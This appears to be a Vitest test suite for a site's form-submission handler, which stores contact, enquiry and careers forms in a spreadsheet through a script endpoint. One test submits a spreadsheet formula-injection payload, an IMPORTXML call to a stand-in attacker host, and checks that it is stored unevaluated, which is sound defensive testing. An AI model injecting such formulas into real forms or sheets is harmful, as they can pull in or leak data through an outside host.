import { contactSchema, enquirySchema, SUBMISSION_ID_FIELD } from '@agency/contracts';
import enquiry from '@agency/contracts/fixtures/enquiry.json' with { type: 'json' };
import { createLogger } from '@agency/server/logger';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { careersForm } from '../careers/careers-form.ts';
import { createSubmissionHandler, type SubmissionHandler } from './handle-submission.ts';
import type { FormDefinition } from './submission.ts';
import { messages, pdf, toRequest as toApplication } from './testing/careers-submissions.ts';
import { message, toJson } from './testing/contact-submissions.ts';
import { page, SITE_URL, SUBMISSION_ID, secret } from './testing/form-basics.ts';
import {
  loadDocumentedScript,
  type ScriptHost,
  type SheetBook,
  startScriptHost,
} from './testing/script-host.ts';

const contactForm: FormDefinition = { name: 'contact', schema: contactSchema };
const enquiryForm: FormDefinition = { name: 'enquiry', schema: enquirySchema };
const text = (body: string, type = 'text/plain') => ({ text: body, type });

let host: ScriptHost;
let book: SheetBook;
let handleSubmission: SubmissionHandler;
let log: string;

/** A started website that sends its forms to the script. */
function open() {
  const toEndpoint = (form: string) => `${host.url}?form=${form}&key=change-me`;
  handleSubmission = createSubmissionHandler({
    siteUrl: SITE_URL,
    dashboardUrl: 'http://127.0.0.1:9',
    endpoints: {
      contact: toEndpoint('contact'),
      enquiry: toEndpoint('enquiry'),
      careers: toEndpoint('careers'),
    },
    intakeSecret: secret,
    logger: createLogger('test', 'info', {
      write(line) {
        log += line;
      },
    }),
  });
}

beforeEach(async () => {
  book = { sheets: new Map(), files: [], locked: false };
  log = '';
  host = await startScriptHost(loadDocumentedScript(book));
  open();
});
afterEach(() => host.close());

const context = { clientAddress: '203.0.113.9', messages, page };
const sendContact = (more = {}) =>
  handleSubmission({
    form: contactForm,
    request: toJson({ ...message, [SUBMISSION_ID_FIELD]: SUBMISSION_ID, ...more }),
    ...context,
  });
const sendEnquiry = () =>
  handleSubmission({
    form: enquiryForm,
    request: toJson({ ...enquiry, [SUBMISSION_ID_FIELD]: SUBMISSION_ID }),
    ...context,
  });
const sendApplication = async () =>
  handleSubmission({ form: careersForm, request: await toApplication(), ...context });
const senders = [
  ['contact', sendContact],
  ['enquiry', sendEnquiry],
  ['careers', sendApplication],
] as const;

describe.each(senders)('a script for the %s form', (_form, send) => {
  it.each([
    text('Success'),
    text('{"result":"success","row":7}'),
    text('{"ok":true}', 'application/json'),
    text('{}'),
    text('"error"'),
    text('', ''),
  ])('that returns %j after its redirect acknowledges the form with our id', async (output) => {
    host.doPost = () => output;
    expect(await send()).toMatchObject({ kind: 'stored', reference: SUBMISSION_ID });
    expect(host.fetched).toMatchObject([{ method: 'GET', body: '' }]);
    expect(JSON.stringify(host.fetched)).not.toMatch(/authorization|idempotency|submissionId/i);
  });

  it('can return a reference for the receipt', async () => {
    host.doPost = () => text('{"ok":true,"reference":"ROW-7"}');
    expect(await send()).toMatchObject({ reference: 'ROW-7' });
  });

  it('that sends an HTML page with status 200 does not acknowledge the form', async () => {
    host.doPost = () => {
      throw new Error('Exception: Service Spreadsheets timed out for nour@nile.example');
    };
    expect(await send()).toMatchObject({ kind: 'rejected', status: 503 });
    expect(log).toContain('Service Spreadsheets timed out');
    expect(log).not.toContain('nour@nile.example');
  });

  it.each([
    text('<!doctype html><title>Sign in</title>', 'text/html'),
    text('\n<HTML><body>Error', 'text/plain'),
    text('{"result":"error","error":"No sheet"}'),
    text('{"ok":false}'),
    text('{"error":"No sheet"}'),
  ])('that returns %j after its redirect does not acknowledge the form', async (output) => {
    host.doPost = () => output;
    expect(await send()).toMatchObject({ kind: 'rejected', status: 503 });
  });
});

describe('the documented script', () => {
  it('stores every field of every form unchanged', async () => {
    for (const [, send] of senders) expect((await send()).kind).toBe('stored');
    expect(book.sheets.get('contact')?.[1]?.slice(3)).toEqual(Object.values(message));
    expect(book.sheets.get('enquiry')?.[1]?.slice(3)).toEqual(Object.values(enquiry));
    const [heading = [], row = []] = book.sheets.get('careers') ?? [];
    const stored = Object.fromEntries(heading.map((name, index) => [name, row[index]]));
    expect(stored).toMatchObject({
      submissionId: SUBMISSION_ID,
      resumeName: 'omar-farid.pdf',
      resume: 'https://drive.example/1',
    });
    expect(book.files).toMatchObject([{ type: 'application/pdf' }]);
    expect(book.files[0]?.bytes.equals(pdf)).toBe(true);
  });

  it('adds a column for a new field of the form', async () => {
    book.sheets.set('contact', [['submissionId', 'print', 'received', 'email', 'fax']]);
    await sendContact();
    const [columns = [], row = []] = book.sheets.get('contact') ?? [];
    expect(columns.slice(0, 5)).toEqual(['submissionId', 'print', 'received', 'email', 'fax']);
    const stored = Object.fromEntries(columns.map((name, index) => [name, row[index]]));
    expect(stored).toMatchObject({ ...message, fax: '' });
  });

  it('stores a message that is sent again once, also from another process', async () => {
    for (let round = 0; round < 3; round += 1) {
      expect(await sendContact()).toMatchObject({ kind: 'stored', reference: SUBMISSION_ID });
      await sendApplication();
      open();
    }
    expect(book.sheets.get('contact')).toHaveLength(2);
    expect(book.sheets.get('careers')).toHaveLength(2);
    expect(book.files).toHaveLength(1);
  });

  it('stores a message whose response was lost once', async () => {
    const run = host.doPost;
    host.doPost = (event) => {
      run(event);
      throw new Error('the answer is lost');
    };
    expect((await sendContact()).kind).toBe('rejected');
    host.doPost = run;
    expect((await sendContact()).kind).toBe('stored');
    expect(book.sheets.get('contact')).toHaveLength(2);
  });

  it('stores a message that was edited after going back as a second one', async () => {
    await sendContact();
    open();
    expect((await sendContact({ message: 'On second thought: lamps.' })).kind).toBe('stored');
    open();
    await sendContact({ message: 'On second thought: lamps.' });
    expect(book.sheets.get('contact')).toHaveLength(3);
  });

  it('evaluates no formula in a message', async () => {
    await sendContact({ subject: '=IMPORTXML("https://evil.example","//a")', company: "'quoted" });
    const row = book.sheets.get('contact')?.[1] ?? [];
    expect(row).toContain('=IMPORTXML("https://evil.example","//a")');
    expect(row).toContain("'quoted");
    expect(row).toContain(message.phone);
  });

  it('rejects requests without its secret, or while it stores another message', async () => {
    const { doPost } = host;
    host.doPost = (event) => doPost({ ...event, parameter: { ...event.parameter, key: 'guess' } });
    expect((await sendContact()).kind).toBe('rejected');
    host.doPost = doPost;
    book.locked = true;
    expect((await sendContact()).kind).toBe('rejected');
    expect(book.sheets.size).toBe(0);
  });
});
